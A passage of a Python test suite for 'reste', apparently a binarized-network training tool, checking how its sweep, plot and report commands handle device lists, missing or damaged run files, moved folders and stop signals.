        # (review experiments #1) an estimator by any of its names, as the sweep takes it: larq's ste_sign, any case
        assert main(["plot", str(out), "--setting", "estimator=STE_sign", "--out", str(tmp_path / "r.png")]) == 0
        assert drawn[-1] == ([ste], ["estimator=ste seed 0"])
        capsys.readouterr()
        # (review experiments #3) a sweep given twice, or a run beside its sweep: each run drawn once, and said
        assert main(["plot", str(out), str(out), str(reste_), "--out", str(tmp_path / "r.png")]) == 0
        assert [d for d in drawn[-1][0]] == [ste, reste_]
        assert "plot: 1 run given more than once (overlapping targets" in capsys.readouterr().out  # (a sweep given
        # twice is one target, review diff13 #9; the run beside it, once more)
        # (review newuser #2) a listed value no run has is said, not a curve silently absent
        assert main(["plot", str(out), "--setting", "estimator=reste,dsq", "--out", str(tmp_path / "r.png")]) == 0
        assert f"plot: no run of the sweep in {out} has estimator=dsq beside" in capsys.readouterr().out
        assert drawn[-1][0] == [reste_]
        (ste / "metrics.jsonl").unlink()  # as if it had not finished its first epoch
        assert main(["plot", str(out)]) == 0
        assert "plot: 1 of the sweep's 2 runs has no finished epoch yet; left out" in capsys.readouterr().out
        assert drawn[-1][0] == [reste_]
        from reste import rundir  # (review experiments #2) one that diverged in it will never have one: not "yet"
        rundir.record_divergence(ste, 1, 3)
        assert main(["plot", str(out)]) == 0
        assert ("plot: 1 of the sweep's 2 runs diverged before their first epoch ended (the sweep does not train them "
                "again); left out") in capsys.readouterr().out
        (ste / "diverged.json").unlink()
        mp.chdir(tmp_path)  # several runs' figure goes to ./curves.png: here, not into the repository
        assert main(["plot", str(reste_), str(out)]) == 0  # a run beside a sweep: labelled by what differs
        assert drawn[-1][1] is None and _is_png(tmp_path / "curves.png")
    assert sweep_run_dirs(out, ["seed=0,1"]) == [reste_]
    for flag, wanted in (("o_end=10", "o_end is not an axis of the sweep"), ("estimator", "write it KEY=VALUE"),
                         ("estimator=dsq", "no run of the sweep in")):
        assert main(["plot", str(out), "--setting", flag]) == 2
        assert wanted in capsys.readouterr().err
    assert main(["plot", str(reste_), "--setting", "seed=0"]) == 2
    assert "--setting picks runs of a sweep" in capsys.readouterr().err


def test_a_setting_takes_an_axis_spelled_as_the_grid_takes_it(tmp_path):
    """--grid o-end=2,3 is the axis o_end: --setting o-end=3 picks its runs as --setting o_end=3 does."""
    from reste.experiments import sweep_run_dirs

    out = tmp_path / "s"
    assert main(["sweep", "--grid", "o-end=2,3", "--dataset", "digits", "--epochs", "2", "--threads", "1",
                 "--no-report", "--out", str(out)]) == 0
    three = [out / s["runs"]["0"] for s in json.loads((out / "sweep.json").read_text())["settings"]
             if s["values"] == {"o_end": 3}]
    assert sweep_run_dirs(out, ["o-end=3"]) == sweep_run_dirs(out, ["o_end=3"]) == three


def test_devices_spread_a_sweeps_jobs_and_are_checked_before_anything_is_made(tmp_path, capsys, monkeypatch):
    """`reste sweep --devices 0,1`: job k trains on device k % n (the runs of a multi-GPU machine), in place of
    --device; bad lists are one line before any folder is made."""
    import queue

    import torch

    from reste.experiments import run_sweep
    from reste.experiments import sweep as sw

    assert sw.sweep_devices(["0", " cuda:1", "cpu"], 3, check=False) == ["cuda:0", "cuda:1", "cpu"]
    assert sw.sweep_devices(None, 4) is None
    for devices, jobs, wanted in ((["cpu", "cpu"], 2, "names a device twice"), (["cpu", "0"], 1, "give --jobs 2"),
                                  (["tpu"], 1, "unknown device 'tpu'"), (["mps"], 1, "reste trains on cpu or cuda")):
        with pytest.raises(UsageError, match=wanted):
            sw.sweep_devices(devices, jobs)
        with pytest.raises(UsageError, match=wanted):  # a dry run too: no machine has them
            sw.sweep_devices(devices, jobs, check=False)
    with pytest.MonkeyPatch.context() as mp:  # a machine without GPUs: the remedy is not --device, refused beside it
        mp.setattr(torch.cuda, "is_available", lambda: False)
        with pytest.raises(UsageError) as refused:
            sw.sweep_devices(["0", "1"], 2)
        assert str(refused.value) == ("--devices: device 'cuda:0' requested but CUDA is not available; drop --devices "
                                      "to train on the CPU")
    with pytest.MonkeyPatch.context() as mp:  # a machine with two GPUs: a third is refused, naming the two
        mp.setattr(torch.cuda, "is_available", lambda: True)
        mp.setattr(torch.cuda, "device_count", lambda: 2)
        with pytest.raises(UsageError, match=r"has 2 CUDA devices \(cuda:0 to cuda:1\)"):
            sw.sweep_devices(["0", "2"], 2)
        mp.setattr(torch.cuda, "device_count", lambda: 1)  # one GPU: named alone, not 'cuda:0 to cuda:0'
        with pytest.raises(UsageError, match=r"has 1 CUDA device \(cuda:0\); pick it$"):
            sw.sweep_devices(["0", "1"], 2)
    # a worker takes its number from the queue, and trains its runs on that device
    slots: queue.Queue = queue.Queue()
    slots.put(1)
    threads = torch.get_num_threads()
    monkeypatch.setitem(sw._WORKER, "slot", 0)
    try:
        sw._init_worker(threads, None, slots=slots)
    finally:
        torch.set_num_threads(threads)
    assert sw._WORKER["slot"] == 1
    seen = []
    monkeypatch.setattr("reste.engine.train", lambda config, *a, **k: seen.append(config.device) or {})
    sw._execute({"config": TrainConfig(dataset="digits").to_dict(), "run_dir": str(tmp_path / "r"), "resume": False,
                 "devices": ["cpu", "cuda:3"]})
    assert seen == ["cuda:3"]
    monkeypatch.undo()
    # the sweep's own process (one job) trains on the first; two workers, each on its own
    base = TrainConfig(dataset="digits", model="digits_1w1a", epochs=1)
    run_sweep(base, {}, [0], tmp_path / "one", threads=1, log=lambda line: None, report=False, devices=["cpu"])
    assert json.loads(next((tmp_path / "one" / "runs").glob("*/seed0/config.json")).read_text())["device"] == "cpu"
    run_sweep(base, {"estimator": ["ste", "reste"]}, [0], tmp_path / "two", jobs=2, threads=1,
              log=lambda line: None, report=False, devices=["cpu", "auto"])
    recorded = [json.loads(p.read_text())["device"] for p in (tmp_path / "two" / "runs").glob("*/seed0/config.json")]
    assert len(recorded) == 2 and set(recorded) <= {"cpu", "auto"}  # which worker takes which run is the pool's
    # the command line: --devices sets --jobs, and refuses --device beside it
    for argv, wanted in ((["--devices", "cpu", "--device", "cpu"], "--device and --devices both given"),
                         (["--devices", "cpu,"], "write the devices separated by commas"),
                         (["--devices", "cpu,auto", "--jobs", "1"], "give --jobs 2")):
        assert main(["sweep", "--dataset", "digits", "--out", str(tmp_path / "cli"), *argv]) == 2
        assert wanted in capsys.readouterr().err
    assert not (tmp_path / "cli").exists()


def test_a_sweep_under_torchrun_is_refused_before_anything_is_made(tmp_path, capsys, monkeypatch):
    """Each of torchrun's processes would run the whole sweep: the first held --out and the others were refused it
    (exit 75), so torchrun stopped the first. One line up front says to run it alone, with --devices."""
    for name, value in (("WORLD_SIZE", "2"), ("RANK", "0"), ("MASTER_ADDR", "127.0.0.1"), ("MASTER_PORT", "29500")):
        monkeypatch.setenv(name, value)
    assert main(["sweep", "--dataset", "digits", "--grid", "estimator=ste,reste", "--out", str(tmp_path / "s")]) == 2
    assert "run it without torchrun (--devices 0,1,... spreads its runs over GPUs" in capsys.readouterr().err
    assert not (tmp_path / "s").exists()


def test_a_float_baseline_in_a_sweep_with_indicators_trains_without_them(tmp_path):
    """--grid model=digits_1w1a,digits --indicators: the binary model's runs measure the indicators, the float
    baseline's train without them (it has no binary layer), said in one note, with empty indicator columns."""
    from reste.experiments import run_sweep

    base = TrainConfig(dataset="digits", epochs=1, indicators="general")
    settings = expand_grid(base, {"model": ["digits_1w1a", "digits"]})
    assert [s.config.indicators for s in settings] == ["general", None]
    lines: list[str] = []
    rows = run_sweep(base, {"model": ["digits_1w1a", "digits"]}, [0], tmp_path / "s", threads=1, log=lines.append)
    assert lines[0] == ("sweep: note: model=digits trains without --indicators (full precision: no binary layer to "
                        "measure); their indicator columns stay empty")
    by_model = {r["setting"]: r for r in rows}
    assert by_model["model=digits_1w1a"]["estimating_error_mean"] is not None and by_model["model=digits"]["n"] == 1
    assert by_model["model=digits"]["estimating_error_mean"] is None
    with pytest.raises(UsageError, match="every setting of this sweep is full precision"):  # nothing to measure
        run_sweep(dataclasses.replace(base, model="digits"), {"lr": [0.1, 0.2]}, [0], tmp_path / "f", log=print)
    assert not (tmp_path / "f").exists()


def test_a_float_baseline_beside_an_estimator_grid_trains_once_without_the_estimators_settings(capsys):
    """--grid estimator=ste,reste o_end=2,3 model=digits_1w1a,digits: the float model has no estimator, so its
    setting leaves out the estimator axes and flags (and --scaling, --a32), and is one setting, not one per
    estimator value; a sweep of float models alone still refuses an estimator as `reste train` does."""
    base = TrainConfig(dataset="digits", epochs=2, estimator="ste", scaling="channel",
                       estimator_options={"clip": 2.0})
    settings = expand_grid(base, {"estimator": ["ste", "reste"], "o_end": [2, 3], "model": ["digits_1w1a", "digits"]})
    labels = [s.label for s in settings]
    assert labels == ["estimator=ste,model=digits_1w1a", "model=digits", "estimator=reste,o_end=2,model=digits_1w1a",
                      "estimator=reste,o_end=3,model=digits_1w1a"]
    baseline = settings[1].config
    assert settings[1].values == {"model": "digits"}
    from reste.estimators import get_estimator

    assert (baseline.estimator, baseline.estimator_options, baseline.scaling) == (  # the defaults, written out
        TrainConfig.estimator, get_estimator(TrainConfig.estimator).config(), TrainConfig.scaling)
    assert settings[0].config.estimator_options == {"clip": 2.0} and settings[0].config.scaling == "channel"
    assert main(["sweep", "--grid", "estimator=ste,reste", "--grid", "model=digits_1w1a,digits", "--dry-run",
                 "--out", "unused"]) == 0
    assert "3 settings x 1 seed = 3 runs" in capsys.readouterr().out
    with pytest.raises(UsageError, match="'digits' is full precision: it has no estimator, so --estimator ste"):
        expand_grid(dataclasses.replace(base, model="digits", estimator_options={}), {"lr": [0.1, 0.2]})[0] \
            .config.resolve()


def test_plot_of_a_sweep_whose_run_folders_are_gone_draws_its_epochs_csv(tmp_path, capsys, monkeypatch):
    """(review sweeps #14) A committed study keeps runs.csv and epochs.csv, not its run folders: `reste plot SWEEP`
    said its runs had "no finished epoch yet" and drew nothing. It draws them from epochs.csv, and says so."""
    from reste.experiments import plots

    out = tmp_path / "s"
    assert main(["sweep", "--grid", "lr=0.05,0.1", "--epochs", "2", "--threads", "1", "--out", str(out),
                 "--no-report"]) == 0
    assert main(["report", str(out), "--no-plots"]) == 0
    shutil.rmtree(out / "runs")
    drawn = []
    real = plots.runs_figure
    monkeypatch.setattr(plots, "runs_figure", lambda dirs, labels=None, metrics=None, **kw: drawn.append(
        (labels, metrics)) or real(dirs, labels, metrics, **kw))
    capsys.readouterr()
    assert main(["plot", str(out), "--out", str(tmp_path / "c.png")]) == 0
    assert f"plot: 2 of the sweep's 2 runs drawn from {out / 'epochs.csv'} (their folders are gone)" in \
        capsys.readouterr().out
    (labels, metrics), = drawn
    assert labels == ["lr=0.05 seed 0", "lr=0.1 seed 0"] and [len(m) for m in metrics] == [2, 2]
    rows = [r for r in _read_csv(out / "epochs.csv") if r["setting"] == "lr=0.1"]
    assert [m["test_acc"] for m in metrics[1]] == [float(r["test_acc"]) for r in rows]
    assert (tmp_path / "c.png").stat().st_size > 0
    lone = tmp_path / "lone"  # (review rev12 #6) beside a run folder: the gone runs keep the sweep's names
    assert main(["train", "--epochs", "1", "--threads", "1", "--no-progress", "--out", str(lone)]) == 0
    drawn.clear()
    assert main(["plot", str(out), str(lone), "--out", str(tmp_path / "d.png")]) == 0
    assert drawn[0][0] == ["s: lr=0.05 seed 0", "s: lr=0.1 seed 0", "lone"]


def test_plot_of_a_sweep_with_some_run_folders_gone_does_not_say_the_modes_differ(sweep, tmp_path, capsys):
    """(review readme2 #1) A run drawn from epochs.csv has no config.json: its mode read as None beside the others'
    "general", and the plot warned that the runs' indicator modes differ. Its mode is its setting's."""
    import warnings

    out, _ = _copy(sweep, tmp_path)
    shutil.rmtree(next((out / "runs").glob("ste-*/seed0")))
    capsys.readouterr()
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        assert main(["plot", str(out), "--out", str(tmp_path / "c.png")]) == 0
    assert f"plot: 1 of the sweep's 2 runs drawn from {out / 'epochs.csv'}" in capsys.readouterr().out
    assert not [w for w in caught if "other modes" in str(w.message)] and _is_png(tmp_path / "c.png")
    manifest = json.loads((out / "sweep.json").read_text())  # a setting of the other mode: said, as before
    manifest["settings"][0]["config"]["indicators"] = "paper"
    (out / "sweep.json").write_text(json.dumps(manifest))
    with pytest.warns(UserWarning, match="measured the indicators in other modes"):
        assert main(["plot", str(out), "--out", str(tmp_path / "d.png")]) == 0


def test_plot_of_a_study_without_epochs_csv_says_why_and_draws_the_other_targets(sweep, tmp_path, capsys):
    """(review experiments #5) A committed study of an older version keeps runs.csv, not epochs.csv: plot said its
    finished runs had "no finished epoch yet", and such a sweep among several targets stopped the whole figure."""
    gone, _ = _copy(sweep, tmp_path)
    shutil.rmtree(gone / "runs")
    (gone / "epochs.csv").unlink()
    whole = tmp_path / "whole"
    shutil.copytree(gone.parent / "s", whole, dirs_exist_ok=True)  # (a name of its own for the legend)
    shutil.copytree(sweep[0] / "runs", whole / "runs")
    shutil.copy(sweep[0] / "epochs.csv", whole / "epochs.csv")
    capsys.readouterr()
    assert main(["plot", str(gone), "--out", str(tmp_path / "a.png")]) == 2
    said = capsys.readouterr()
    assert ("plot: 2 of the sweep's 2 runs left out: their folders are gone and epochs.csv (older sweeps lack it) "
            "holds none of their epochs") in said.out and "no finished epoch yet" not in said.out
    assert said.err == (f"reste: error: no run of the sweep in {gone} has epochs to draw: the folders of its finished "
                        "runs are gone and epochs.csv (older sweeps lack it) holds none of their epochs\n")
    assert main(["plot", str(gone), str(whole), "--out", str(tmp_path / "b.png")]) == 0
    said = capsys.readouterr().out
    assert f"no run of the sweep in {gone} has epochs to draw" in said and "the other targets are drawn" in said
    assert _is_png(tmp_path / "b.png")
    shutil.copytree(gone, tmp_path / "gone2")  # (the same folder twice is one target: review diff13 #9)
    assert main(["plot", str(gone), str(tmp_path / "gone2"), "--out", str(tmp_path / "c.png")]) == 2
    assert "none of the 2 sweeps given has a run with epochs to draw" in capsys.readouterr().err


def test_a_sweep_over_optimizers_gives_momentum_to_sgd_alone(capsys):
    """(review newuser #2) --momentum is SGD's: the other optimizers' settings keep the default (as Bop's settings
    are Bop's alone), and a momentum grid without SGD is refused, not trained as equal runs."""
    base = TrainConfig(epochs=1, momentum=0.5)
    settings = expand_grid(base, {"optimizer": ["sgd", "adam"]})
    assert [(s.config.optimizer, s.config.momentum) for s in settings] == [("sgd", 0.5), ("adam", 0.9)]
    with pytest.raises(UsageError, match="--momentum is a setting of SGD; --optimizer adam has none"):
        expand_grid(dataclasses.replace(base, optimizer="adam"), {"momentum": [0.5, 0.8]})
    for grid in ({"optimizer": ["adam", "adamw"]}, {"optimizer": ["adam", "adamw"], "momentum": [0.5, 0.8]}):
        with pytest.raises(UsageError, match="--momentum is a setting of --optimizer sgd, which no setting of this "
                                             "sweep trains"):  # (review rev12 #5: it was dropped without a word)
            expand_grid(base, grid)
    with pytest.raises(UsageError, match="--bop-gamma is a setting of --optimizer bop, which no setting"):
        expand_grid(TrainConfig(epochs=1, bop_gamma=1e-3), {"optimizer": ["adam", "sgd"]})
    saved = TrainConfig.from_saved({**TrainConfig(optimizer="adam").to_dict(), "momentum": 0.5})
    assert saved.momentum == 0.9  # a run saved before the refusal: what it trained with (no momentum)
    saved = TrainConfig.from_saved({**TrainConfig(model="digits").to_dict(), "scaling": "channel"})
    assert saved.scaling == "layer" and saved.resolve().scaling == "layer"  # (review rev12 #2: a float run, too)
    assert TrainConfig.from_saved({**TrainConfig().to_dict(), "scaling": "channel"}).scaling == "channel"


def test_a_gridless_sweep_of_a_float_model_is_labelled_by_the_model():
    """(review docs #6) The README's full-precision baseline sweep (`--model resnet20`, no grid) labelled its one
    setting `reste`, an estimator the float model does not train."""
    assert [s.label for s in expand_grid(TrainConfig(model="digits", epochs=1), {})] == ["digits (full precision)"]
    assert [s.label for s in expand_grid(TrainConfig(epochs=1), {})] == ["reste"]


def test_a_report_says_which_kept_rows_a_hand_edited_sweep_json_drops(tmp_path, capsys):
    """(review sweeps #8) A sweep.json edited by hand (a setting removed, a config that is no mapping): the report
    rewrote runs.csv without the rows of the runs it no longer names, without a word."""
    out = tmp_path / "s"
    assert main(["sweep", "--grid", "lr=0.05,0.1", "--epochs", "1", "--threads", "1", "--out", str(out),
                 "--no-report"]) == 0
    assert main(["report", str(out), "--no-plots"]) == 0
    manifest = json.loads((out / "sweep.json").read_text())
    dropped = manifest["settings"].pop(1)
    (out / "sweep.json").write_text(json.dumps(manifest))
    capsys.readouterr()
    assert main(["report", str(out), "--no-plots"]) == 0
    assert f"report: 1 row of the earlier runs.csv names no run of {out / 'sweep.json'} (edited?), and go: " \
        f"{dropped['runs']['0']}\n" in capsys.readouterr().out
    manifest["settings"][0]["config"] = [1]
    (out / "sweep.json").write_text(json.dumps(manifest))
    assert main(["report", str(out)]) == 2
    assert "has a config that is not a mapping of settings" in capsys.readouterr().err


def test_a_sweep_folder_moved_while_the_sweep_runs_is_said_so(tmp_path, monkeypatch):
    """(review sweeps #10) `mv` of the sweep's folder mid-sweep: each later run failed on a raw FileNotFoundError, and
    the end said the folder 'does not exist; pass a sweep's folder', as if the user had mistyped it."""
    from reste import engine
    from reste.experiments.sweep import run_sweep

    real_train = engine.train

    def train(config, run_dir, **kw):
        result = real_train(config, run_dir, **kw)
        if (tmp_path / "s").exists():
            (tmp_path / "s").rename(tmp_path / "moved")
        return result

    monkeypatch.setattr(engine, "train", train)
    base = TrainConfig(dataset="digits", model="digits_1w1a", epochs=1, threads=1)
    # (review chaos5 #2) before the next run, naming where it went (Linux tells), not after training it elsewhere
    where = "moved to .*/moved" if sys.platform.startswith("linux") else "moved or deleted"
    with pytest.raises(UsageError, match=rf"the sweep folder .*/s was {where} while the sweep ran: the sweep stops; "
                                         "run the same command with --out "):
        run_sweep(base, {"lr": [0.05, 0.1]}, [0], tmp_path / "s", log=lambda _m: None)
    assert not (tmp_path / "s").exists()


def test_a_run_another_sweep_finished_first_is_held_not_failed(tmp_path):
    """(review rev12 #11) Two sweeps sharing a --runs-dir: the slower one's start of a run the other had just
    finished was 'FAILED', and wrote its traceback and a failure record into that finished run (shown as failed
    for good). It is held by another job, as a run being trained is, and the folder is left as it was."""
    from reste.experiments import sweep as sw
    from reste.rundir import FAILED, TRAIN_LOG

    run = tmp_path / "r"
    config = TrainConfig(dataset="digits", epochs=1, threads=1)
    assert main(["train", "--epochs", "1", "--threads", "1", "--no-progress", "--out", str(run)]) == 0
    outcome = sw._execute({"config": config.to_dict(), "run_dir": str(run), "resume": False})
    assert outcome["status"] == "busy"  # (review docs2, suggestion) not RunExists's advice to --resume it
    assert outcome["error"] == f"{run} is another job's run (a sweep that shares this runs folder started it first)"
    assert not (run / FAILED).exists() and not (run / TRAIN_LOG).exists()


def test_a_report_of_a_sweep_with_no_run_reported_exits_1(tmp_path, monkeypatch, capsys):
    """(review experiments, suggestion) `reste report` exited 0 whatever it found: a row per setting is written
    even when no run could be reported (every run failed, or none finished yet)."""
    from reste import engine
    from reste.experiments import sweep as sw

    def fails(config, run_dir, **_kw):
        raise RuntimeError("boom")

    monkeypatch.setattr(engine, "train", fails)
    sw.run_sweep(TrainConfig(dataset="digits", epochs=1), {"estimator": ["ste"]}, [0], tmp_path / "s", report=False,
                 log=lambda _m: None)
    assert main(["report", str(tmp_path / "s"), "--no-plots"]) == 1
    said = capsys.readouterr()
    assert "| estimator=ste |" in said.out
    # (review ux1 #5) and says why on stderr, as every other failing command does
    assert said.err == (f"reste: no run of {tmp_path / 's'} could be reported (1 planned: none finished yet, or each "
                        f"failed or diverged); `reste show {tmp_path / 's'}` says where each stands\n")


@pytest.mark.parametrize("damage", ["cut", "fewer", "garbage"])
def test_a_damaged_table_is_refused_before_the_report_writes_it_again(sweep, capsys, tmp_path, damage):
    """(review chaos2 #1) with the run folders gone, runs.csv and epochs.csv are the runs' record: a damaged one was
    read as far as it went and written again from that, a run's row and its epochs lost, exit 0."""
    out, _ = _copy(sweep, tmp_path)
    shutil.rmtree(out / "runs")  # a clone without the git-ignored run folders
    table = out / ("epochs.csv" if damage == "fewer" else "runs.csv")
    text = table.read_bytes()
    table.write_bytes({"cut": text[:-7], "fewer": text.rstrip(b"\r\n").rsplit(b",", 3)[0] + b"\r\n",
                       "garbage": b'garbage\x00,,\n"unterminated'}[damage])
    before = {name: (out / name).read_bytes() for name in ("runs.csv", "epochs.csv")}
    assert main(["report", str(out), "--no-plots"]) == 2
    err = capsys.readouterr().err
    assert f"reste: error: {table} is damaged (" in err and err.count("\n") == 1, err
    assert {name: (out / name).read_bytes() for name in before} == before  # nothing written again


def test_a_finished_runs_damaged_last_pt_is_named_by_its_whole_path(sweep, tmp_path):
    """(review chaos2 #3) the note kept the last 80 characters of the error, which began inside the path."""
    from reste.experiments.sweep import _run_state

    out, _ = _copy(sweep, tmp_path)
    run = next((out / "runs").glob("reste-*/seed0"))
    last = run / "last.pt"
    last.write_bytes(last.read_bytes()[:3000])
    state, note = _run_state(run, 1)
    assert state == "done" and f"checkpoint {last} is truncated or corrupted" in note, note


def test_a_folder_of_sweeps_is_named_by_report_and_show_and_drawn_by_plot(sweep, tmp_path, capsys, monkeypatch):
    """(review newuser3 #4) The README's own layout, sweeps/est and sweeps/oend: `report sweeps` said to run a sweep
    into the parent folder, `show sweeps` to pass a run's folder, `plot sweeps` that it took none of it."""
    from reste.experiments import plots

    out, _ = sweep
    parent = tmp_path / "sweeps"
    parent.mkdir()
    for name in ("est", "oend"):
        shutil.copytree(out, parent / name)
    for command in ("report", "show"):
        assert main([command, str(parent)]) == 2
        err = capsys.readouterr().err
        assert f"{parent} holds the sweeps est, oend: pass one, e.g. `reste {command} {parent / 'est'}`" in err, err
    assert main(["train", "--resume", str(parent)]) == 2  # not show's advice, which a resume cannot follow (diff16 #7)
    assert "holds no run (no config.json)" in capsys.readouterr().err
    drawn = []
    monkeypatch.setattr(plots, "plot_runs", lambda dirs, out, *a, **k: drawn.append((len(dirs), out)) or Path(out))
    assert main(["plot", str(parent)]) == 0
    assert f"{parent} holds 2 sweeps (est, oend); each is drawn" in capsys.readouterr().out
    assert drawn == [(4, parent / "curves.png")]  # each sweep's two runs, into the folder given


def test_a_report_it_cannot_write_is_one_line(tmp_path, capsys, monkeypatch):
    """(review chaos4 #8) A sweep folder the report cannot write (a read-only study, another user's): Python's
    PermissionError line, with no advice."""
    from reste.experiments import report as report_module

    argv = ["sweep", "--grid", "estimator=ste", "--seeds", "0", "--epochs", "1", "--threads", "1", "--out",
            str(tmp_path / "s"), "--model", "digits_1w1a", "--no-report"]
    assert main(argv) == 0

    def refused(path, write):
        raise PermissionError(13, "Permission denied", str(path) + ".tmp")

    monkeypatch.setattr(report_module, "atomic_write", refused)
    capsys.readouterr()
    assert main(["report", str(tmp_path / "s"), "--no-plots"]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith(f"reste: error: cannot write {tmp_path / 's'}") and "Permission denied" in err, err
    assert err.endswith("writable (its mode, its owner, a full disk) and run the command again") and "\n" not in err


def test_a_stop_signal_while_the_tables_are_written_ends_the_sweep_with_a_line(tmp_path, capsys, monkeypatch):
    """(review chaos4 #9) SIGTERM (a cluster's preemption, a closed ssh) after the sweep's last run, while it writes
    its tables: Python's default action ended it without a line, leaving the tables without the last run. The
    tables are written, then the sweep stops with its usual line and 128 + the signal."""
    import os
    import signal

    from reste.experiments import sweep as sweep_module

    real = sweep_module.summarize

    def signalled(*args, **kwargs):
        os.kill(os.getpid(), signal.SIGTERM)
        return real(*args, **kwargs)

    monkeypatch.setattr(sweep_module, "summarize", signalled)
    argv = ["sweep", "--grid", "estimator=ste", "--seeds", "0", "--epochs", "1", "--threads", "1", "--out",
            str(tmp_path / "s"), "--model", "digits_1w1a"]
    assert main(argv) == 128 + signal.SIGTERM
    err = capsys.readouterr().err
    assert "reste: sweep stopped by SIGTERM after its last run, its tables written; run the same command again" in err
    assert len((tmp_path / "s" / "runs.csv").read_text().splitlines()) == 2  # the header and the run
    assert signal.getsignal(signal.SIGTERM) == signal.SIG_DFL  # given back


@pytest.mark.parametrize("when", ["last epoch", "between runs", "ctrl-c in the last epoch"])
def test_a_stop_signal_in_a_runs_last_epoch_or_between_runs_stops_the_sweep(tmp_path, capsys, monkeypatch, when):
    """(review chaos5 #7, #8) In a sweep of one run at a time, a SIGTERM (or Ctrl-C) while a run evaluated its last
    epoch was caught by the run's handler, which finishes that epoch, and forgotten: the sweep trained the next runs
    and exited 0. One between two runs took the default action: exit 143 without a line. Either now stops the sweep
    before its next run, with its line and 128 + the signal; the finished run is kept."""
    import os
    import signal

    from reste import engine
    from reste.experiments import sweep as sweep_module

    signum = signal.SIGINT if when.startswith("ctrl-c") else signal.SIGTERM
    if when == "between runs":
        real_execute = sweep_module._execute

        def execute(job, stop=None):
            outcome = real_execute(job, stop)
            os.kill(os.getpid(), signum)  # (the run returned: its handler is gone)
            return outcome

        monkeypatch.setattr(sweep_module, "_execute", execute)
    else:
        real_evaluate, calls = engine.evaluate, []

        def evaluate(*args, **kwargs):
            calls.append(1)
            if len(calls) == 1:  # the first run's only epoch: the run finishes it
                os.kill(os.getpid(), signum)
            return real_evaluate(*args, **kwargs)

        monkeypatch.setattr(engine, "evaluate", evaluate)
    argv = ["sweep", "--grid", "estimator=ste,reste", "--seeds", "0", "--epochs", "1", "--threads", "1", "--out",
            str(tmp_path / "s"), "--model", "digits_1w1a", "--no-report"]
    # Ctrl-C as a terminal's foreground job gets it: a background job (CI under nohup, `&`) ignores SIGINT, which reste
    # then leaves alone (distributed.stop_signals), and the key would reach nothing
    keys = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        assert main(argv) == 128 + signum
    finally:
        signal.signal(signal.SIGINT, keys)
    err = capsys.readouterr().err
    assert f"reste: sweep stopped by {'Ctrl-C (SIGINT)' if signum == signal.SIGINT else 'SIGTERM'}; run the same " \
           "command again to continue" in err, err
    runs = sorted((tmp_path / "s" / "runs").iterdir())
    assert [r.name.split("-")[0] for r in runs] == ["ste"]  # the second run was not started
    assert (runs[0] / "seed0" / "last.pt").is_file()
    assert signal.getsignal(signal.SIGTERM) == signal.SIG_DFL  # given back


def test_a_sweeps_line_names_the_epoch_the_resume_goes_on_from(tmp_path):
    """(review chaos4 #10) The sweep said "resuming at epoch 2/3" of a run killed between epoch 1's metrics line and
    its first last.pt, which the resume trains from epoch 1; and of a run whose last.pt lags its last line, the epoch
    after that line. It names what last.pt holds."""
    import shutil

    from reste.experiments.sweep import _epochs_recorded

    run = tmp_path / "run"
    assert main(["train", "--epochs", "2", "--out", str(run), "--no-progress", "--threads", "1"]) == 0
    assert _epochs_recorded(run) == 2
    one = tmp_path / "one"
    assert main(["train", "--epochs", "1", "--out", str(one), "--no-progress", "--threads", "1"]) == 0
    shutil.copy(one / "last.pt", run / "last.pt")  # last.pt one epoch behind metrics.jsonl (its write cut)
    assert _epochs_recorded(run) == 1
    (run / "last.pt").unlink()  # none: the resume trains epoch 1 again
    assert _epochs_recorded(run) == 0
    (run / "last.pt").write_bytes(b"garbage")  # unreadable: what metrics.jsonl says, as before
    assert _epochs_recorded(run) == 2


def test_a_sweep_continued_through_a_link_to_its_folder_finds_its_runs_dir(tmp_path, capsys, monkeypatch):
    """(review chaos5 #4) A sweep with --runs-dir outside its folder, continued through a link to the folder (a
    ~/latest link): sweep.json's "../shared" was collapsed as text against the link's own folder, a folder that never
    existed, and the sweep trained every finished run again there, while `reste show` of the same path said
    finished."""
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    monkeypatch.chdir(tmp_path / "a")
    argv = ["sweep", "--grid", "estimator=ste", "--seeds", "0", "--epochs", "1", "--threads", "1",
            "--model", "digits_1w1a", "--no-report", "--no-progress"]
    assert main([*argv, "--runs-dir", "shared", "--out", "A"]) == 0
    (tmp_path / "b" / "Alink").symlink_to(tmp_path / "a" / "A")
    monkeypatch.chdir(tmp_path / "b")
    capsys.readouterr()
    assert main([*argv, "--out", "Alink"]) == 0
    out = capsys.readouterr().out
    assert "(1 already finished)" in out, out
    assert not (tmp_path / "b" / "shared").exists()


def test_a_sweeps_tables_are_collected_and_written_by_one_process_at_a_time(tmp_path, monkeypatch):
    """(review chaos5 #5) A report that collected the runs before a sweep's last run ended could write its tables after
    the sweep had written its final ones, and the older tables stayed. The tables are collected and written under one
    lock, which the other writer waits for (and then collects again)."""
    import fcntl

    from reste.experiments import report as report_module

    argv = ["sweep", "--grid", "estimator=ste", "--seeds", "0", "--epochs", "1", "--threads", "1", "--out",
            str(tmp_path / "s"), "--model", "digits_1w1a", "--no-progress"]
    assert main(argv) == 0
    real, held = report_module.collect, []

    def collect(out, log=None):
        with open(out / report_module.TABLES_LOCK) as other:  # another open file: as another process would try
            try:
                fcntl.flock(other, fcntl.LOCK_EX | fcntl.LOCK_NB)
                held.append(False)
            except BlockingIOError:
                held.append(True)
        return real(out, log)

    monkeypatch.setattr(report_module, "collect", collect)
    assert main(["report", str(tmp_path / "s"), "--no-plots"]) == 0
    assert held == [True]


def test_a_sweep_whose_manifest_is_damaged_keeps_the_rows_of_its_runs(tmp_path, capsys):
    """(review chaos4 #6) With sweep.json damaged, the guard against a rerun that leaves runs out was off: a rerun
    with fewer seeds dropped the other runs' rows from runs.csv and epochs.csv, the only record of runs whose folders
    are gone. runs.csv names them, and the settings and seeds to give again. (Deleted, it starts the tables afresh,
    as the refusals say: test_a_sweep_that_would_drop_anothers_runs_from_its_folder_is_refused.)"""
    out = tmp_path / "s"
    argv = ["sweep", "--grid", "estimator=ste", "--seeds", "0,1", "--epochs", "1", "--threads", "1", "--out", str(out),
            "--model", "digits_1w1a"]
    assert main(argv) == 0
    manifest = out / "sweep.json"
    manifest.write_bytes(manifest.read_bytes()[:200])
    rows = (out / "runs.csv").read_text()
    capsys.readouterr()
    assert main([*argv[:4], "0", *argv[5:]]) == 2  # seed 0 alone
